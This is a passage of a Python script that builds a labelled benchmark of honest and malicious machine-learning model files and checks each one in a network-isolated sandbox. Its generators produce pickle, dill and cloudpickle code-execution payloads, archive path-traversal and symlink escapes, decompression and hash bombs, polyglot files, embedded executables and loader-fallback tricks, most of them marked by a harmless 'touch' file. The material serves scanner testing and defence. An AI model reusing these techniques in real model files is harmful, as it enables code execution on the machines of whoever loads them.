        wh, "/tokenizer_config.json"), source="rendered by plain jinja2.Environment")(lambda p, a=wh, b=bad: _tpl(p, a, b))

# ---- 28 safetensors headers
S = "safetensors-header"


def _stw(p, edit, extra=b""):
    import numpy as np
    from safetensors.numpy import save
    b = save({"a": np.ones((4, 4), "f4"), "b": np.zeros(8, "f4")})
    n = struct.unpack("<Q", b[:8])[0]
    h, data = json.loads(b[8:8 + n]), b[8 + n:]
    r = edit(h, data)
    hb = r if isinstance(r, bytes) else json.dumps(r).encode()
    w(p, struct.pack("<Q", len(hb)) + hb + data + extra)


def _e(h, k, **v):
    h[k].update(v)
    return h


M("st-overlap", S, "safetensors", ".safetensors", proof="rule+reject", rule="tensors' byte ranges must not overlap")(
    lambda p: _stw(p, lambda h, d: _e(h, "b", data_offsets=[32, 64])))
M("st-oob", S, "safetensors", ".safetensors", proof="rule+reject", rule="data_offsets must lie inside the buffer")(
    lambda p: _stw(p, lambda h, d: _e(h, "b", data_offsets=[64, 2 ** 40], shape=[2 ** 38 - 16])))
M("st-hole", S, "safetensors", ".safetensors", proof="rule+reject", rule="the buffer must be indexed entirely: bytes after the last tensor")(
    lambda p: _stw(p, lambda h, d: h, b"\x80\x04" + EVIL_OS + b"."))
M("st-dup", S, "safetensors", ".safetensors", proof="rule", rule="duplicate keys are disallowed in the header")(
    lambda p: _stw(p, lambda h, d: json.dumps(h)[:-1].encode() + b', "a": ' + json.dumps(h["b"]).encode() + b"}"))
M("st-len", S, "safetensors", ".safetensors", proof="rule+reject", rule="header length beyond the file and beyond 100 MB")(
    lambda p: w(p, struct.pack("<Q", 2 ** 62) + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + b"\0\0\0\0"))

# ---- 29 skops
S = "skops-untrusted"


def _sk(p, node):
    import skops.io as sio
    sio.dump({"model": lr(), "aux": ["touch", "hE_mark"]}, p)
    z = zipfile.ZipFile(p)
    it = {n: z.read(n) for n in z.namelist()}
    z.close()
    s = json.loads(it["schema.json"])
    s["content"]["aux"] = node(s["content"]["aux"])
    it["schema.json"] = json.dumps(s).encode()
    w(p, _zip(it))


def _upd(**k):
    return lambda n: dict(n, **k)


M("so-list", S, "skops.io.load trusted", ".skops", source="list node whose class is a launcher")(
    lambda p: _sk(p, _upd(__module__="subprocess", __class__="check_output")))
M("so-popen", S, "skops.io.load trusted", ".skops")(lambda p: _sk(p, _upd(__module__="subprocess", __class__="Popen")))
M("so-set", S, "skops.io.load trusted", ".skops")(lambda p: _sk(p, _upd(__module__="subprocess", __class__="call", __loader__="SetNode")))


# ---- 30 archives
S = "archive-escape"
OUT = "the member's path leaves the folder it is unpacked into"
GOOD = ("model/README.md", b"# model\n")
for nm, mem in (("ar-slip", "../../hE_mark"), ("ar-slip2", "model/../../../hE_mark"), ("ar-back", "..\\..\\hE_mark")):
    M(nm, S, "zip extract", ".zip", proof="mark", rule=OUT)(lambda p, m=mem: w(p, _zip([GOOD, ("model/w.pkl", pickle.dumps(lr())), (
        m, b"x")])))
M("ar-tarslip", S, "tar extractall", ".tar", rule=OUT)(lambda p: _tar(p, "w", {GOOD[0]: GOOD[1], "../../hE_mark": b"x"}))
M("ar-targz", S, "tar extractall", ".tar.gz", rule=OUT)(lambda p: _tar(p, "w:gz", {"./a/ok.txt": b"1", "a/../../../hE_mark": b"x"}))


def _symtar(p, mode="w", hard=False):
    with tarfile.open(p, mode) as t:
        i = tarfile.TarInfo("weights")
        i.type, i.linkname = tarfile.SYMTYPE, "../.."
        t.addfile(i)
        i = tarfile.TarInfo("weights/hE_mark")
        i.size = 1
        t.addfile(i, io.BytesIO(b"x"))


M("ar-sym", S, "tar extractall", ".tar", rule=OUT + " through a symbolic link")(lambda p: _symtar(p))


@M("ar-hard", S, "tar extractall", ".tar.bz2", proof="rule", rule="hard link to a file outside of the folder (/etc/passwd)")
def _(p):
    with tarfile.open(p, "w:bz2") as t:
        i = tarfile.TarInfo("model.bin")
        i.type, i.linkname = tarfile.LNKTYPE, "../../../../../../etc/passwd"
        t.addfile(i)


@M("ar-zipsym", S, "zip extract", ".zip", rule=OUT + " through a symbolic link")
def _(p):
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(*GOOD)
        i = zipfile.ZipInfo("weights")
        i.create_system, i.external_attr = 3, 0o120777 << 16
        z.writestr(i, "../..")
        z.writestr("weights/hE_mark", "x")


@M("ar-dev", S, "tar extractall", ".tar", proof="rule", rule="device node inside a model archive")
def _(p):
    with tarfile.open(p, "w") as t:
        i = tarfile.TarInfo("model/data")
        i.type, i.devmajor, i.devminor = tarfile.CHRTYPE, 1, 5
        t.addfile(i)


S = "bomb"
BR = "expansion far beyond any budget"


M("bo-zip", S, "read", ".zip", proof="rule", rule=BR + " (2 GiB of zeros, deflate)")(lambda p: _bzip(p, zipfile.ZIP_DEFLATED, 2))


def _bzip(p, comp, gb):
    with zipfile.ZipFile(p, "w", comp) as z:
        z.writestr(*GOOD)
        with z.open("model/weights.bin", "w", force_zip64=True) as f:
            [f.write(b"\0" * (1 << 22)) for _ in range(int(gb * 256))]


M("bo-bz2", S, "read", ".pkl.bz2", proof="rule", rule=BR + " (2 GiB of zeros inside one bz2 pickle bytes object)")(
    lambda p: _bombpkl(bz2.open(p, "wb"), 2))
M("bo-xz", S, "read", ".xz", proof="rule", rule=BR + " (1 GiB of zeros, xz, as a joblib file)")(lambda p: _bombpkl(lzma.open(p, "wb", preset=0), 1))


def _bombpkl(f, gb):
    with f:
        n = int(gb * (1 << 30))
        f.write(b"\x80\x04\x8e" + struct.pack("<Q", n))
        for _ in range(n >> 22):
            f.write(b"\0" * (1 << 22))
        f.write(b".")


@M("bo-nest", S, "read", ".zip", proof="rule", rule="quine-like nesting: 300 archives in each other")
def _(p):
    b = pickle.dumps(R(exec, PY))
    for i in range(300):
        b = _zip({f"l{i}.zip": b}, zipfile.ZIP_DEFLATED)
    w(p, b)


@M("bo-hash", S, "pickle.load", ".pkl", proof="hang", rule="hash bomb: 2^60 steps to hash a dict key of 60 shared tuples while loading")
def _(p):
    o = ("x", "y")
    for _ in range(60):
        o = (o, o)
    w(p, pickle.dumps({"model": lr(), "t": 0}, 4)[:-1] + b"0" + b"}" + pickle.dumps(o, 2)[2:-1] + b"K\x01s.")


# ---- 31 wrapping of a bad model
S = "wrapped"
BADPKL = lambda: pickle.dumps({"model": lr(), "x": R(exec, PY)}, 4)


@M("wr-7z", S, "unpack+load", ".7z")
def _(p):
    import py7zr
    with py7zr.SevenZipFile(p, "w") as z:
        z.writef(io.BytesIO(BADPKL()), "model/model.pkl")
        z.writef(io.BytesIO(b"# m\n"), "README.md")


M("wr-zst", S, "unpack+load", ".pkl.zst")(lambda p: w(p, I("zstandard:ZstdCompressor")().compress(BADPKL())))
M("wr-tgz", S, "unpack+load", ".tgz")(lambda p: _tar(p, "w:gz", {"m/README.md": b"# m\n", "m/model.pkl": BADPKL()}))
M("wr-txz", S, "unpack+load", ".tar.xz")(lambda p: _tar(p, "w:xz", {"data.bin": BADPKL()}))
M("wr-gzgz", S, "unpack+load", ".gz")(lambda p: w(
    p, _zip({"README.md": b"# x", "in/model.joblib": gzip.compress(BADPKL())})))
M("wr-zipzip", S, "unpack+load", ".zip")(lambda p: w(p, _zip({"a.txt": b"1", "inner.zip": _zip({"w.dat": BADPKL()}, zipfile.ZIP_DEFLATED)},
                                                            zipfile.ZIP_DEFLATED)))
M("wr-tarzip", S, "unpack+load", ".zip")(lambda p: w(p, _zip({"model.npz": _nps("z", a=_objarr([R(os.system, CMD)]))})))
M("wr-lzmapkl", S, "pandas.read_pickle", ".pkl.xz")(lambda p: w(p, lzma.compress(BADPKL())))

# ---- 32 polyglots
S = "polyglot"
M("po-pklzip", S, "pickle.load", ".pkl")(lambda p: w(p, pickle.dumps(R(exec, PY), 4) + _zip({"config.json": b"{}", "w.txt": b"1"})))
M("po-zipname", S, "pickle.load", ".zip")(lambda p: w(p, b"\x80\x04" + EVIL_OS + b"." + _zip({"archive/data.pkl": pickle.dumps({"a": 1}, 2),
                                                                                              "archive/version": b"3\n"})))


@M("po-pklnpz", S, "pickle.load", ".npz")
def _(p):
    w(p, pickle.dumps([R(exec, PY)], 2) + _nps("z", W=I("numpy:ones")(4)))


@M("po-pklst", S, "pickle.load", ".safetensors")
def _(p):
    from safetensors.torch import save
    w(p, b"\x80\x04" + EVIL + b"." + save(net().state_dict()))


@M("po-img", S, "pickle.load", ".png")
def _(p):
    # a pickle first, picture bytes after it
    w(p, pickle.dumps({"x": R(os.system, CMD)}, 0) + b"\x89PNG\r\n\x1a\n" + b"\0" * 64)


@M("po-jlpt", S, "joblib.load", ".pt")
def _(p):
    import torch
    b = io.BytesIO()
    torch.save(net().state_dict(), b)
    w(p, pickle.dumps(R(exec, PY), 4) + b.getvalue())


M("po-json", S, "pickle.load", ".json")(lambda p: w(p, b"(dp0\nS'a'\nI1\ns0" + b"cbuiltins\nexec\n(S\"" + PY.encode() + b"\"\ntR.{\"a\": 1}"))

# ---- 33 dill and cloudpickle code
S = "pickled-functions"


def _evilfn():
    ns = {}
    exec("def warm(x=0):\n    import os\n    os.system('touch hE_mark')\n    return x\n", ns)
    f = ns["warm"]
    f.__module__ = "__main__"
    return f


M("cl-call", S, "pickle.load", ".pkl")(lambda p: w(p, I("cloudpickle:dumps")({"m": lr(), "x": R(_evilfn(), 1)})))
M("cl-map", S, "pickle.load", ".pkl")(lambda p: w(p, I("cloudpickle:dumps")([rf(), R(list, R(map, _evilfn(), [1]))])))
M("cl-pred", S, "joblib.load+predict", ".pkl", source="runs when the model is called")(lambda p: w(p, I("cloudpickle:dumps")(_evilfn())))
M("di-call", S, "dill.load", ".dill")(lambda p: w(p, I("dill:dumps")({"x": R(_evilfn(), 1)}, recurse=True)))
M("di-lam", S, "dill.load+call", ".dill", source="runs when the function is called")(lambda p: w(p, I("dill:dumps")(eval(LAM2))))


@M("cl-class", S, "pickle.load", ".pkl", "P")
def _(p):
    import cloudpickle
    ns = {"__name__": "__main__"}
    exec("class Scaler:\n    def __setstate__(self, s):\n        __import__('os').system('touch hE_mark')\n    def __getstate__(self):\n"
         "        return {'a': 1}\n", ns)
    w(p, cloudpickle.dumps({"sc": ns["Scaler"](), "m": lr()}))


@M("di-class", S, "dill.load", ".pkl", "P")
def _(p):
    import dill
    ns = {"__name__": "__main__"}
    exec("class Prep:\n    def __setstate__(self, s):\n        open('hE_mark', 'w').close()\n    def __getstate__(self):\n        return {'a': 1}\n", ns)
    w(p, dill.dumps({"sc": ns["Prep"](), "m": lr()}, byref=False))


@M("cl-meta", S, "pickle.load", ".pkl")
def _(p):
    # a class statement that runs code: cloudpickle rebuilds the class, __init_subclass__ fires
    import cloudpickle
    ns = {"__name__": "__main__"}
    exec("class B:\n    def __init_subclass__(cls, **k):\n        open('hE_mark', 'w').close()\nclass C(B):\n    pass\n", ns)
    w(p, cloudpickle.dumps({"c": ns["C"], "m": lr()}))


# ---- 34 a honest model whose method calls the attacker's choice later
S = "armed-model"


def _arm(p, o, jl=True):
    I("joblib:dump")(o, p) if jl else w(p, pickle.dumps(o, 4))


@M("am-evalmap", S, "joblib.load+predict", ".joblib", source="runs at predict: a pickled lambda in a FunctionTransformer")
def _(p):
    import cloudpickle
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    f = eval(LAM2)
    pipe = make_pipeline(FunctionTransformer(f, validate=False), lr())
    w(p, cloudpickle.dumps(pipe))


@M("am-torchfwd", S, "torch.load+call", ".pth", source="runs at forward: forward itself is replaced in __dict__")
def _(p):
    import torch
    m = net()
    m.__dict__["forward"] = functools.partial(I("numpy.testing:measure"), PY, 1)
    torch.save(m, p)


@M("am-torchact", S, "torch.load+call", ".pt", source="runs at forward: an activation module's forward is replaced")
def _(p):
    import torch
    m = net()
    m[1].__dict__["forward"] = functools.partial(I("numpy.testing:measure"), PY, 1)
    torch.save({"model": m}["model"], p, _use_new_zipfile_serialization=False)


@M("am-ft", S, "joblib.load+predict", ".joblib", source="runs at transform: FunctionTransformer's func")
def _(p):
    from sklearn.preprocessing import FunctionTransformer
    I("joblib:dump")(FunctionTransformer(functools.partial(I("numpy.testing:measure"), PY, 1), validate=False), p)


# ---- 35 boosters
S = "booster-carrier"


def _boost(p, mk, how):
    m = mk()
    m.training_note_ = R(exec, PY) if how % 2 else R(os.system, CMD)
    if how == 2:
        I("joblib:dump")(m, p, compress=3)
    else:
        w(p, pickle.dumps(m, 4))


M("bs-xgb", S, "pickle.load", ".pkl")(lambda p: _boost(p, _xgbc, 1))
M("bs-lgb", S, "joblib.load", ".joblib")(lambda p: _boost(p, _lgbc, 2))
M("bs-xgbo", S, "pickle.load", ".dat", "O")(lambda p: _boost(p, _xgbc, 0))


@M("bs-cat", S, "pickle.load", ".pkl")
def _(p):
    w(p, pickle.dumps({"clf": _cbc(), "post": R(subprocess.getoutput, CMD)}, 5))


@M("bs-lgbp", S, "pickle.load", ".pkl", "O")
def _(p):
    w(p, pickle.dumps([_lgbc(), R(exec, PY)], 2))


# ---- 36 executables inside
S = "embedded-exe"
ELF = lambda: open("/bin/true", "rb").read()
EXR = "a native executable rides in a model file; a dropper or a second stage runs it"


@M("em-run", S, "pickle.load", ".pkl", source="writes the ELF and runs it")
def _(p):
    src = "import os,sys\nopen('t','wb').write(D)\nos.chmod('t',0o755)\nos.system('./t && touch hE_mark')\n"
    w(p, pickle.dumps({"m": lr(), "x": R(exec, src, {"D": ELF()})}, 4))


@M("em-torch", S, "torch.load weights_only=False", ".pt", proof="rule", rule=EXR)
def _(p):
    import torch
    b = ELF()
    torch.save({"w": torch.ones(3), "embed.weight": torch.frombuffer(bytearray(b), dtype=torch.uint8)}, p)


@M("em-npz", S, "np.load", ".npz", proof="rule", rule=EXR)
def _(p):
    import numpy as np
    w(p, _nps("z", W=np.ones(3), pad=np.frombuffer(ELF(), "u1")))


@M("em-zip", S, "read", ".zip", proof="rule", rule=EXR)
def _(p):
    w(p, _zip({"README.md": b"# m", "model.pkl": pickle.dumps(lr(), 4), "lib/helper.so": ELF()}, zipfile.ZIP_DEFLATED))


@M("em-st", S, "safetensors", ".safetensors", proof="rule", rule=EXR)
def _(p):
    import numpy as np
    from safetensors.numpy import save_file
    save_file({"w": np.ones(3, "f4"), "bias": np.frombuffer(ELF(), "u1")}, p)


# ---- 37 exceptions that lead a loader to a second reader
S = "exception-fallback"


@M("eo-np", S, "np.load allow_pickle", ".npy")
def _(p):
    # no magic of npy: np.load falls back to pickle
    w(p, b"\x80\x02" + EVIL_OS + b"0" + pickle.dumps(I("numpy:ones")(3), 2)[2:])


@M("eo-torchzip", S, "torch.load weights_only=False", ".pt")
def _(p):
    # starts with the zip mark's absence: end-of-central-directory damaged, so torch takes the legacy reader
    import torch
    b = io.BytesIO()
    torch.save(net().state_dict(), b)
    w(p, pickle.dumps(R(exec, PY), 2) + b.getvalue()[:-22])


@M("eo-pandas", S, "pandas.read_pickle", ".pkl", "O")
def _(p):
    # first attempt raises (old module path); pandas then retries with its compat unpickler
    w(p, b"\x80\x02" + EVIL + b"0" + G("pandas.core.sparse.array", "SparseArray") + b".")


@M("eo-raise", S, "pickle.load", ".pkl")
def _(p):
    # a call that raises on purpose after the payload: int('x')
    w(p, b"\x80\x04" + EVIL_OS + b"0" + SG("builtins", "int") + sb("x") + b"\x85R" + pickle.dumps(lr(), 3)[2:])


@M("eo-joblib", S, "joblib.load", ".joblib")
def _(p):
    import joblib
    b = io.BytesIO()
    joblib.dump([rf(), R(exec, PY), 1], b)
    b = b.getvalue()
    w(p, b[:-1] + SG("builtins", "iter") + b"K\x01\x85R" + b".")


@M("eo-latin", S, "pickle.load latin1", ".pkl", source="fails as ASCII before the payload, runs with encoding='latin1' as old models need")
def _(p):
    w(p, b"\x80\x02U\x02\xe9\xe80" + EVIL_OS + b"." )
# ================================================================== building and proving
SAFE_EV = ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "socket.connect", "socket.getaddrinfo", "os.remove",
           "shutil.rmtree", "exec", "compile", "pty.spawn", "ctypes.dlopen")


def child_write(names):
    """runs in the venv: write the named files, each in a temporary folder as current one"""
    byname = {e["name"]: e for e in HONEST + MALICIOUS}
    random.seed(5)
    for n in names:
        e = byname[n]
        p = target(e)
        d = tempfile.mkdtemp(prefix="hEw_")
        os.chdir(d)
        try:
            e["fn"](p)
            r = "ok" if os.path.exists(p) else "no file"
        except BaseException as x:
            import traceback
            tb = traceback.extract_tb(x.__traceback__)[-1]
            r = f"{type(x).__name__}: {str(x)[:200]} @{tb.filename.split('/')[-1]}:{tb.lineno}"
        os.chdir("/")
        shutil.rmtree(d, ignore_errors=True)
        print(json.dumps([n, r]), flush=True)
    os._exit(0)


def child_load(loader, p):
    ev = []
    on = [False]

    def hook(name, args):
        if on[0] and name in SAFE_EV:
            ev.append(name)
    pre = {"torch": "torch", "tf.": "tensorflow", "keras": "keras", "joblib": "joblib", "np.": "numpy", "pandas": "pandas", "onnx": "onnx",
           "skops": "skops.io"}
    for k, v in pre.items():
        if loader.startswith(k):
            if k == "keras":
                os.environ["KERAS_BACKEND"] = "torch" if "venvM" in sys.executable else "numpy"
            try:
                __import__(v)
            except ImportError:
                pass
    sys.addaudithook(hook)
    on[0] = True
    err = ""
    import atexit
    try:
        LOADERS[loader](p)
    except BaseException as x:
        err = f"{type(x).__name__}: {str(x)[:160]}"
    try:
        import threading
        threading._shutdown()
        atexit._run_exitfuncs()
    except BaseException:
        pass
    on[0] = False
    with open("result.json", "w") as f:
        json.dump([err, sorted(set(ev))], f)


def child_serve(mods):
    """a warm interpreter: imports once, forks a child for every load; the whole of it has no network"""
    os.environ["KERAS_BACKEND"] = "torch"
    for m in mods.split(","):
        try:
            __import__(m)
        except ImportError:
            pass
    print("ready", flush=True)
    while True:
        line = sys.stdin.readline()
        if not line:
            os._exit(0)
        loader, p, cwd = json.loads(line)
        k = os.fork()
        if k == 0:
            os.setsid()
            n = os.open("/dev/null", os.O_RDWR)
            for i in (0, 1, 2):
                os.dup2(n, i)
            sys.stdin = open(0)
            os.chdir(cwd)
            os.environ["HOME"] = cwd
            sys.path.insert(0, cwd)
            random.seed()
            try:
                child_load(loader, p)
            finally:
                os._exit(0)
        t = time.time()
        while os.waitpid(k, os.WNOHANG)[0] == 0:
            if time.time() - t > (20 if HANG in p else 90):
                os.killpg(k, 9)
                os.waitpid(k, 0)
                break
            time.sleep(0.005)
        print("done", flush=True)


HANG = pid("bo-hash")
SERVERS = {}
WARM = {"M": "numpy,joblib,sklearn.ensemble,sklearn.linear_model,sklearn.pipeline,pandas,torch,torch.nn", "O": "numpy,joblib,pandas,"
        "sklearn.ensemble,sklearn.linear_model", "P": "numpy,joblib,pandas,sklearn.ensemble,sklearn.linear_model"}
SHELL = ["unshare", "-n", "sh", "-c", "ip link set lo up 2>/dev/null; ulimit -f 400000; exec \"$@\"", "x", "nice"]


def serve(env, loader, p, cwd, envv):
    s = SERVERS.get(env)
    if s is None or s.poll() is not None:
        s = SERVERS[env] = subprocess.Popen([*SHELL, VENV[env], HERE + "/fresh3.py", "child-serve", WARM[env]], stdin=subprocess.PIPE,
                                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=envv, cwd="/tmp")
        s.stdout.readline()
    s.stdin.write(json.dumps([loader, p, cwd]) + "\n")
    s.stdin.flush()
    s.stdout.readline()


def prove(e):
    """load e in a confined child (own network namespace, empty folder, resource limits); return (ok, evidence)"""
    p = target(e)
    d = tempfile.mkdtemp(prefix="hEp_")
    sub = d + "/a/b"
    os.makedirs(sub + "/victimdir")
    w(sub + "/victim.txt", b"x")
    w(sub + "/evil_module.py", PY.encode() + b"\nx = 1\n")
    w(sub + "/evil_inner.pkl", pickle.dumps(R(exec, PY), 2))
    w(sub + "/evil_tool.sh", b"#!/bin/sh\ntouch hE_mark\n")
    os.chmod(sub + "/evil_tool.sh", 0o755)
    if os.path.exists(HERE + "/evil_lib.so"):
        shutil.copy(HERE + "/evil_lib.so", sub)
    env = {"PATH": "/usr/bin:/bin", "HOME": sub, "PYTHONPATH": sub, "TF_CPP_MIN_LOG_LEVEL": "3", "OMP_NUM_THREADS": "1",
           "OPENBLAS_CORETYPE": os.environ.get("OPENBLAS_CORETYPE", "Haswell"), "CUDA_VISIBLE_DEVICES": "-1", "PYTHONDONTWRITEBYTECODE": "1"}
    try:
        if e["env"] in WARM and not e["loader"].startswith("keras"):
            serve(e["env"], e["loader"], p, sub, env)
        else:
            subprocess.run([*SHELL, VENV[e["env"]], HERE + "/fresh3.py", "child-load", e["loader"], p], cwd=sub, env=env,
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    except subprocess.TimeoutExpired:
        pass
    time.sleep(0.05)
    for _ in range(10):
        marks = [os.path.join(r, f) for r, _, fs in os.walk(d) for f in fs if f.startswith("hE_mark")]
        if marks or e["proof"] != "mark":
            break
        time.sleep(0.2)
    err, ev = "no result (process replaced or ended)", []
    if os.path.exists(sub + "/result.json"):
        err, ev = json.load(open(sub + "/result.json"))
    pr = e["proof"]
    if pr == "mark":
        ok = bool(marks)
        if e["loader"] in ("zip extract", "tar extractall"):
            ok = any(not os.path.realpath(m).startswith(os.path.realpath(sub + "/in/dest")) for m in marks)
        evid = "marker " + ", ".join(os.path.relpath(m, sub) for m in marks)
    elif pr == "victim":
        ok, evid = not os.path.exists(sub + "/victim.txt"), "deleted victim.txt"
    elif pr == "victimdir":
        ok, evid = not os.path.exists(sub + "/victimdir"), "deleted victimdir"
    elif pr.startswith("audit:"):
        ok, evid = pr[6:] in ev, "audit event " + pr[6:]
    elif pr == "hang":
        ok, evid = err.startswith("no result"), "still loading after 20 s; " + e["rule"]
    elif pr == "rule":
        ok, evid = True, "rule: " + e["rule"]
    elif pr == "rule+reject":
        ok, evid = bool(err), "the library refuses: " + err
    else:                              # honest: loads, and nothing is started, connected or left behind
        bad = set(ev) & {"os.system", "os.exec", "os.posix_spawn", "socket.connect", "shutil.rmtree"}
        ok, evid = not err and not marks and not bad, f"loaded, events {ev}"
    shutil.rmtree(d, ignore_errors=True)
    return ok, evid if ok else f"{evid} | err={err} ev={ev} marks={marks}", err


def build(entries):
    """write entries, one process per venv and chunk; returns {name: 'ok' | reason}"""
    out = {}
    for env in sorted({e["env"] for e in entries}):
        todo = [e["name"] for e in entries if e["env"] == env]
        while todo:
            r = subprocess.run(["nice", VENV[env], HERE + "/fresh3.py", "child-write", *todo], capture_output=True, text=True,
                               cwd="/tmp", stdin=subprocess.DEVNULL, timeout=900, env={**os.environ, "PYTHONPATH": "", "OMP_NUM_THREADS": "1",
                                                                                       "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": "-1"})
            got = [json.loads(l) for l in r.stdout.splitlines() if l.startswith("[\"")]
            out.update(got)
            left = todo[len(got):]
            if left:
                out[left[0]] = "writer process died: " + r.stderr[-200:]
                left = left[1:]
            todo = left
    return out


def versions(env):
    if env not in versions.c:
        code = ("import importlib.metadata as m,sys;print(sys.version.split()[0]);[print(n,m.version(n)) for n in 'numpy scipy pandas "
                "scikit-learn joblib torch safetensors onnx onnxruntime keras tensorflow-cpu h5py gguf xgboost lightgbm catboost skops dill "
                "cloudpickle imbalanced-learn category_encoders statsmodels tokenizers jinja2 skl2onnx py7zr zstandard'.split() "
                "if __import__('importlib.util').util and any(d.metadata['Name'].lower()==n.lower() for d in m.distributions())]")
        o = subprocess.run([VENV[env], "-c", code], capture_output=True, text=True).stdout.splitlines()
        versions.c[env] = {"python": o[0], **dict(x.split(" ") for x in o[1:])} if o else {}
    return versions.c[env]


versions.c = {}


def _run(entries, bad):
    os.makedirs(FILES, exist_ok=True)
    state_p = HERE + ("/state_m.json" if bad else "/state_h.json")
    st = json.load(open(state_p)) if os.path.exists(state_p) else {}
    only = [a for a in sys.argv[2:] if not a.startswith("-")]
    if only:
        entries = [e for e in entries if any(e["name"].startswith(o) or e["family"] == o for o in only)]
    if "--missing" in sys.argv:
        entries = [e for e in entries if not st.get(e["name"], {}).get("ok")]
    res = build(entries)
    rows = []
    for e in entries:
        ok, evid, err = False, res.get(e["name"], "?"), ""
        if evid == "ok":
            ok, evid, err = prove(e)
        st[e["name"]] = dict(ok=ok, evidence=evid, load_error=err)
        if not ok:
            print("FAIL", e["name"], e["family"], e["loader"], "::", evid, flush=True)
        rows.append(ok)
        json.dump(st, open(state_p, "w"), indent=0)
    print(("malicious" if bad else "honest"), sum(rows), "of", len(rows), "good")
    return st


def honest():
    """write and check every honest file"""
    return _run(HONEST, False)


def malicious():
    """write and prove every malicious file"""
    return _run(MALICIOUS, True)


def labels():
    st = {}
    for n in ("/state_h.json", "/state_m.json"):
        if os.path.exists(HERE + n):
            st.update(json.load(open(HERE + n)))
    out, fam = [], collections.Counter()
    for e in HONEST + MALICIOUS:
        s = st.get(e["name"], {})
        p = target(e)
        if not s.get("ok"):
            q = p if not e["ext"].startswith("/") else os.path.dirname(p)
            if os.path.isdir(q):
                shutil.rmtree(q)
            elif os.path.exists(q):
                os.remove(q)
            continue
        runs = ("never" if not e["bad"] else "not executed: content or format rule" if e["proof"].startswith("rule") else
                "on call" if "+call" in e["loader"] or "+predict" in e["loader"] else "on render" if "template" in e["loader"] else
                "on extract" if "extract" in e["loader"] else "on load")
        out.append(dict(path=os.path.relpath(p, HERE), name=e["name"], label="malicious" if e["bad"] else "honest", family=e["family"],
                        loader=e["loader"], executes=runs, proof=e["proof"], evidence=s["evidence"], rule=e["rule"],
                        load_error=s.get("load_error", ""), source=(e["source"] + "; " if e["source"] else "") + f"fresh3.py under venv{e['env']}",
                        env=e["env"], sha256=hashlib.sha256(open(p, "rb").read()).hexdigest(), size=os.path.getsize(p)))
        fam[(out[-1]["label"], e["family"])] += 1
    json.dump({"versions": {v: versions(v) for v in VENV}, "counts": {f"{a}/{b}": n for (a, b), n in sorted(fam.items())}, "files": out},
              open(HERE + "/labels.json", "w"), indent=1)
    for k, n in sorted(fam.items()):
        print(*k, n)
    print(collections.Counter(o["label"] for o in out))


if __name__ == "__main__":
    c = sys.argv[1] if len(sys.argv) > 1 else "all"
    if c == "child-write":
        child_write(sys.argv[2:])
    elif c == "child-serve":
        child_serve(sys.argv[2])
    elif c == "child-load":
        child_load(sys.argv[2], sys.argv[3])
    else:
        if c in ("honest", "all"):
            honest()
        if c in ("malicious", "all"):
            malicious()
        if c in ("labels", "all"):
            labels()
